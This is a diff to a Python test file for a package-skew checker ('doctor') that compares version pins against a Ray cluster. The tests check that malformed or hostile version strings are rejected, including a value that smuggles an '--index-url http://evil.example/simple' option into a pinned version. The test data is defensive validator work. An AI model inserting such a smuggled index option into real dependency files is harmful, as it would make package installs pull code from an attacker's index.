@@ -11,6 +11,7 @@ import pytest
 
 from doctor.cli import main
 from doctor.head.facts import HeadPackages
+from doctor.origin import PackagesOrigin
 
 IMAGE = ["--image", "rayproject/ray:2.49.2-py312-cpu", "--no-resolve"]
 HOSTILE = "1.26.4\n--index-url http://evil.example/simple"
@@ -72,7 +73,7 @@ def test_report_output_at_a_folder_is_one_line(capsys, here):
 
 def _head_packages(packages: dict[str, str]):
     def fake(self):  # the cluster's answer, as the deep probe would hand it over
-        return HeadPackages(packages, "a hostile dashboard")
+        return HeadPackages(packages, PackagesOrigin.FILE, "a hostile dashboard")
 
     return fake
 
@@ -140,10 +141,11 @@ def test_lock_lines_header_takes_no_text_from_the_cluster():
 
 
 def test_match_head_pins_are_checked():
-    from doctor.package_skew import matched_pins, pin
+    from doctor.package_skew import matched_pins
+    from doctor.pins import Pin
 
-    assert matched_pins({"numpy": HOSTILE, "pandas": "2.2.3", "attrs": "23.2.0 \n"}) == ["pandas==2.2.3"]
-    assert pin("numpy", "1.26.4") == "numpy==1.26.4"
+    assert matched_pins({"numpy": HOSTILE, "pandas": "2.2.3", "attrs": "23.2.0 \n"}) == [Pin("pandas", "2.2.3")]
+    assert str(Pin.of("numpy", "1.26.4")) == "numpy==1.26.4"
     for name, version in [
         ("numpy", "1.26.4\n"),
         ("numpy", ""),
@@ -151,4 +153,4 @@ def test_match_head_pins_are_checked():
         ("numpy", "1.0 ; os_name"),
         ("a b", "1"),
     ]:
-        assert pin(name, version) is None
+        assert Pin.of(name, version) is None
